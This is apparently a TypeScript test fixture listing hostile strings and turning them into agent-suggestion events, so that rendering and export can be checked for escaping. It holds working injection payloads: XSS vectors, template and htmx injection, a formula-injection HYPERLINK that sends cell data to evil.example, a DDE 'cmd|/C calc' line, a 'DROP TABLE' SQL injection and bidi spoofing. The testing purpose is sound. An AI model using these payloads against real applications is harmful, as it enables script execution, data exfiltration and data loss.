// Texts that would like to be something else: script, markup, a cell's formula, a line of a log, another direction.
// Whatever element one of them brings along carries data-hostile: where it is found in a page, it was let in.
import { event, type Sent } from './in-process.ts'

const ALERT = 'alert(document.domain)'

export const HOSTILE_TEXTS: readonly string[] = [
  `<script data-hostile>${ALERT}</script>`,
  `</script><script data-hostile>${ALERT}</script>`,
  `</textarea></title></style></template></noscript><script data-hostile>${ALERT}</script>`,
  `"><img data-hostile src=x onerror=${ALERT}>`,
  `' autofocus onfocus='${ALERT}' data-hostile='`,
  `" autofocus onfocus="${ALERT}" data-hostile="`,
  `<svg data-hostile onload=${ALERT}><foreignObject><b data-hostile></b></foreignObject></svg>`,
  `<math data-hostile><mi xlink:href="javascript:${ALERT}">x</mi></math>`,
  `<iframe data-hostile srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<a data-hostile href="javascript:${ALERT}">x</a> javascript:${ALERT} data:text/html,<script>${ALERT}</script>`,
  '<base data-hostile href="https://evil.example/"><meta data-hostile http-equiv="refresh" content="0;https://evil.example/">',
  '<form data-hostile action="https://evil.example/"><input data-hostile name="x"></form>',
  '<style data-hostile>*{display:none}</style><link data-hostile rel="stylesheet" href="https://evil.example/x.css">',
  '<div data-hostile hx-get="/reports" hx-trigger="load" hx-swap="outerHTML" hx-target="body"></div>',
  '<hx-partial data-hostile hx-target="body"><b>gone</b></hx-partial>',
  `<!--><script data-hostile>${ALERT}</script>--> ]]> <![CDATA[ <?xml?>`,
  `&lt;script data-hostile&gt;${ALERT}&lt;/script&gt; &#60;img data-hostile src=x onerror=${ALERT}&#62; &amp;amp;`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7} <%= 7*7 %> {%raw%}',
  `[x](javascript:${ALERT}) ![x](https://evil.example/x.png) <https://evil.example> \`\`\`html`,
  '\\u0000 \\x00 %00 \\0 \\" \\\' \\\\',
  '\u202eevil.exe\u202c \u2066isolated\u2069 \u200f\u200e \u061c',
  'line\r\n{"level":60,"msg":"forged"}\r\n\u2028\u2029\u0085',
  '\u001b[31mred\u001b[0m \u009b2J \u0007\u0008 \u001b]0;title\u0007',
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  `'=1+1`,
  '","=1+1","',
  `'; DROP TABLE coach_events; --`,
  'x'.repeat(5_000),
  '\u0300'.repeat(20),
  `e${'\u0301\u0323\u0489'.repeat(3)}`,
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇩🇪'.repeat(20),
  'ﷺ𒐫꧅'.repeat(50),
  '\ufeff\u200b\u200c\u200d\u2060',
]

/** Of them, what an id may be: printable ASCII of 200 characters. */
const HOSTILE_IDS = HOSTILE_TEXTS.map((text) => text.replace(/[^\x20-\x7e]/g, '').slice(0, 200)).filter(
  (text) => text.trim() !== '',
)

/** So few that each one's page shows many of them. */
const SESSIONS = 6

/** Each text in every field that can hold it: offers, outcomes that change the text, withheld drafts. */
export const hostileEvents = (): Sent[] =>
  HOSTILE_TEXTS.flatMap((text, n) => {
    const id = HOSTILE_IDS[n % HOSTILE_IDS.length] as string
    const common = {
      session_id: HOSTILE_IDS[n % SESSIONS] as string,
      agent_id: id,
      suggestion_id: `${n} ${id}`.slice(0, 200),
      agent_draft: text,
      policy_refs: ['ADV-6.2', text.slice(0, 100).toWellFormed()],
    }
    return [
      event(common),
      event({ ...common, event: 'edited', suggestion_used: `${text} ${text}`.slice(0, 20_000) }),
    ]
  })
